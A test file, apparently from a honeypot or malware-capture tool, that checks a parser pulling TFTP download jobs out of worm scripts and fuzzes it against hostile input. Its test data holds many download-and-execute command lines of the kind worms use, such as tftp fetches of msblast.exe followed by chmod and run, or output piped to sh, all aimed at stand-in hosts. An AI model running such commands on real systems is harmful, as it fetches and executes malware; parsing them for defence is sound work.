import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseTftpScript, TFTP_SCRIPT_LIMITS, type TftpJob } from '../../src/plugins/download/tftp-script.js'
import { tftpUrl, TftpDownloadOptions } from '../../src/plugins/download/tftp-download.js'

function parse(text: string, maxJobs?: number): TftpJob[] {
  return parseTftpScript(Buffer.from(text, 'latin1'), maxJobs === undefined ? {} : { maxJobs })
}

function job(host: string, file: string, port = 69): TftpJob {
  return { host, port, file }
}

describe('parseTftpScript: the syntaxes worms use', () => {
  it.each([
    ['tftp -i 203.0.113.5 GET mal.exe', job('203.0.113.5', 'mal.exe')],
    ['tftp -i evil.example.com get x.exe x.exe', job('evil.example.com', 'x.exe')],
    ['TFTP.EXE -i Host.Example.COM GET a.exe c:\\a.exe', job('host.example.com', 'a.exe')],
    ['C:\\WINDOWS\\system32\\tftp.exe -i 198.51.100.7 get msblast.exe', job('198.51.100.7', 'msblast.exe')],
    ['tftp -g -r mips 203.0.113.9', job('203.0.113.9', 'mips')],
    ['tftp -g -r mips 203.0.113.9 6969', job('203.0.113.9', 'mips', 6969)],
    ['tftp -r arm7 -g 203.0.113.9', job('203.0.113.9', 'arm7')],
    ['busybox tftp -gr bins.sh 203.0.113.9', job('203.0.113.9', 'bins.sh')],
    ['/bin/busybox tftp -g -l x86 -r bins/x86 203.0.113.9 69', job('203.0.113.9', 'bins/x86')],
    ['tftp -g -l only.sh 203.0.113.9', job('203.0.113.9', 'only.sh')],
    ['tftp 203.0.113.4 -c get t.sh', job('203.0.113.4', 't.sh')],
    ['tftp -m binary 203.0.113.4 1069 -c get t.sh local.sh', job('203.0.113.4', 't.sh', 1069)],
    ['tftp -i "203.0.113.5" GET "my file.exe"', job('203.0.113.5', 'my file.exe')],
    ['tftp -g -r x [2001:db8::7]', job('2001:db8::7', 'x')],
    ['tftp -g -r x 2001:DB8::7 70', job('2001:db8::7', 'x', 70)],
    ['tftp -i 203.0.113.5 GET a.exe > nul', job('203.0.113.5', 'a.exe')],
    ['tftp -g -r a 203.0.113.5 2>/dev/null', job('203.0.113.5', 'a')],
  ])('%s', (text, expected) => {
    expect(parse(text)).toEqual([expected])
  })

  it('finds every tftp in cmd and sh chains, in order, each once', () => {
    const script = [
      'cmd /c echo off & tftp -i 203.0.113.5 GET one.exe & start one.exe',
      'cd /tmp; tftp -g -r two 203.0.113.6; chmod +x two && ./two',
      'wget http://x/y || tftp -g -r three 203.0.113.7 | sh',
      '(tftp -i 203.0.113.5 GET one.exe)',
      'echo tftp -i 203.0.113.8 get four.exe>>s.bat&&s.bat',
    ].join('\r\n')
    expect(parse(script)).toEqual([
      job('203.0.113.5', 'one.exe'), job('203.0.113.6', 'two'), job('203.0.113.7', 'three'), job('203.0.113.8', 'four.exe'),
    ])
  })

  it('reads tftp:// URLs, with a port, IPv6 hosts and percent-encoded names', () => {
    expect(parse('curl tftp://203.0.113.5/a.sh; x tftp://[2001:db8::1]:6969/dir/b%20c.bin "tftp://h.example/%41"')).toEqual([
      job('203.0.113.5', 'a.sh'), job('2001:db8::1', 'dir/b c.bin', 6969), job('h.example', 'A'),
    ])
    expect(parse('tftp://203.0.113.5//etc/x;mode=octet')).toEqual([job('203.0.113.5', '/etc/x')])
  })

  it('the same file asked twice in two syntaxes is one job', () => {
    expect(parse('tftp -i 203.0.113.5 GET a.exe\ntftp://203.0.113.5:69/a.exe')).toEqual([job('203.0.113.5', 'a.exe')])
  })

  it.each([
    'tftp -i 203.0.113.5 PUT a.exe',
    'tftp -p -l a -r a 203.0.113.5',
    'tftp -g -r x $SERVER',
    'tftp -i %IP% GET a.exe',
    'tftp -g -r x 999.1.1.1',
    'tftp -i GET a.exe',
    'tftp -g 203.0.113.5',
    'tftp -g -r x 203.0.113.5 99999',
    'tftp://203.0.113.5:0/x',
    'tftp://203.0.113.5/a%00b',
    'tftp://203.0.113.5/a%0Ab',
    'tftp 203.0.113.4 -c put t.sh',
    'the tftp client is installed',
    'tftp://-bad-.example/x',
  ])('no job from %j', (text) => {
    expect(parse(text)).toEqual([])
  })
})

describe('parseTftpScript: hostile input', () => {
  it('refuses file names with control bytes and over the length cap', () => {
    expect(parse('tftp -i 203.0.113.5 GET "a\x01b"')).toEqual([])
    expect(parse('tftp -i 203.0.113.5 GET "a\x7fb"')).toEqual([])
    const max = 'f'.repeat(TFTP_SCRIPT_LIMITS.maxFileChars)
    expect(parse(`tftp -i 203.0.113.5 GET ${max}`)).toEqual([job('203.0.113.5', max)])
    expect(parse(`tftp -i 203.0.113.5 GET ${max}f`)).toEqual([])
  })

  it('keeps high bytes of a name as they were (latin1), for the RRQ', () => {
    const [found] = parseTftpScript(Buffer.concat([Buffer.from('tftp -i 203.0.113.5 GET a'), Buffer.from([0xe9, 0xff]), Buffer.from('.exe')]))
    expect(Buffer.from(found?.file ?? '', 'latin1')).toEqual(Buffer.from([0x61, 0xe9, 0xff, 0x2e, 0x65, 0x78, 0x65]))
    expect(tftpUrl(found ?? job('x', 'x'))).toBe('tftp://203.0.113.5:69/a%E9%FF.exe')
    expect(tftpUrl(job('2001:db8::1', 'dir/a b\\c', 6969))).toBe('tftp://[2001:db8::1]:6969/dir/a%20b%5Cc')
  })

  it('skips an overlong command but finds the next one', () => {
    const long = `tftp -i 203.0.113.5 GET a.exe ${'x '.repeat(TFTP_SCRIPT_LIMITS.maxCommandChars)}`
    expect(parse(`${long}\ntftp -i 203.0.113.5 GET b.exe`)).toEqual([job('203.0.113.5', 'b.exe')])
  })

  it('a stray quote does not swallow the following lines', () => {
    expect(parse(`echo "it's\ntftp -g -r b 203.0.113.5`)).toEqual([job('203.0.113.5', 'b')])
  })

  it('caps the number of jobs, from commands and from URLs alike', () => {
    const many = Array.from({ length: 100 }, (_, i) => `tftp -i 203.0.113.5 GET f${i}.exe & tftp://203.0.113.6/u${i}`).join('\n')
    expect(parse(many)).toHaveLength(TFTP_SCRIPT_LIMITS.maxJobs)
    expect(parse(many, 3)).toEqual([job('203.0.113.5', 'f0.exe'), job('203.0.113.6', 'u0'), job('203.0.113.5', 'f1.exe')])
    expect(parse(many, 1_000)).toHaveLength(TFTP_SCRIPT_LIMITS.maxJobs)
  })

  it('repeating one command a million times yields one job, quickly', () => {
    const started = performance.now()
    const jobs = parseTftpScript(Buffer.from('tftp -g -r a 203.0.113.5;'.repeat(40_000)))
    expect(jobs).toEqual([job('203.0.113.5', 'a')])
    expect(performance.now() - started).toBeLessThan(2_000)
  })

  it('looks at the first maxScanBytes only', () => {
    const pad = Buffer.alloc(TFTP_SCRIPT_LIMITS.maxScanBytes, 0x20)
    expect(parseTftpScript(Buffer.concat([pad, Buffer.from('\ntftp -g -r a 203.0.113.5')]))).toEqual([])
  })

  it('never throws and stays within its bounds on arbitrary bytes', () => {
    const pieces = fc.constantFrom('tftp', 'TFTP.EXE', ' ', '-i', '-g', '-r', '-l', '-c', 'get', 'GET', 'put', '203.0.113.5', '[::1]',
      'tftp://', '/', ':69', '"', "'", '&', ';', '|', '\n', '>', '2>', '%00', '%4', 'a.exe', '\x00', '\xff', '69', '99999')
    const script = fc.oneof(fc.array(pieces, { maxLength: 60 }).map((p) => Buffer.from(p.join(' '), 'latin1')), fc.uint8Array({ maxLength: 600 }).map((b) => Buffer.from(b)))
    fc.assert(fc.property(script, fc.integer({ min: -5, max: 50 }), (bytes, maxJobs) => {
      const jobs = parseTftpScript(bytes, { maxJobs })
      expect(jobs.length).toBeLessThanOrEqual(Math.max(0, Math.min(maxJobs, TFTP_SCRIPT_LIMITS.maxJobs)))
      for (const j of jobs) {
        expect(j.file.length).toBeGreaterThan(0)
        expect(j.file.length).toBeLessThanOrEqual(TFTP_SCRIPT_LIMITS.maxFileChars)
        expect(j.file).not.toMatch(/[\x00-\x1f\x7f]/)
        expect(j.port).toBeGreaterThanOrEqual(1)
        expect(j.port).toBeLessThanOrEqual(65_535)
        expect(j.host).toMatch(/^[a-z0-9.:-]+$/)
      }
    }), { numRuns: 2_000 })
  })
})

describe('TftpDownloadOptions', () => {
  it('has defaults and refuses values out of bounds', () => {
    expect(TftpDownloadOptions.parse(undefined)).toEqual({ maxJobs: 8, retransmitMs: 1_000, maxRetries: 5, rollover: 'auto', answerStrangers: true })
    expect(TftpDownloadOptions.parse({ rollover: 1 }).rollover).toBe(1)
    for (const bad of [{ rollover: 2 }, { maxJobs: 0 }, { maxJobs: TFTP_SCRIPT_LIMITS.maxJobs + 1 }, { retransmitMs: 10 }, { maxRetries: -1 }, { typo: 1 }]) {
      expect(TftpDownloadOptions.safeParse(bad).success).toBe(false)
    }
  })
})
